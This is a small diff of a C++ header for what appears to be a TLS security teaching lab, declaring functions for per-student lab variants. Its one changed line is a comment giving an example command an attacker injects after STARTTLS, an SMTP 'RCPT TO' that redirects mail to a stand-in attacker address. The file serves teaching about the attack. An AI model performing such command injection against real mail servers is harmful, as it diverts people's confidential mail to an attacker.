@@ -13,7 +13,7 @@ namespace tlslab::course {
 std::string earlyDataRequest(const Variant& lab12);
 // Lab 13: the confidential line of the student's mail (its Subject).
 std::string mailSubject(const Variant& lab13);
-// Lab 13: the command the attacker injects after STARTTLS, e.g. "RCPT TO:<eve4812@attacker32.com>".
+// Lab 13: the command the attacker injects after STARTTLS, e.g. "RCPT TO:<eve.otter42@attacker32.com>".
 std::string injectedCommand(const Variant& lab13);
 
 }  // namespace tlslab::course
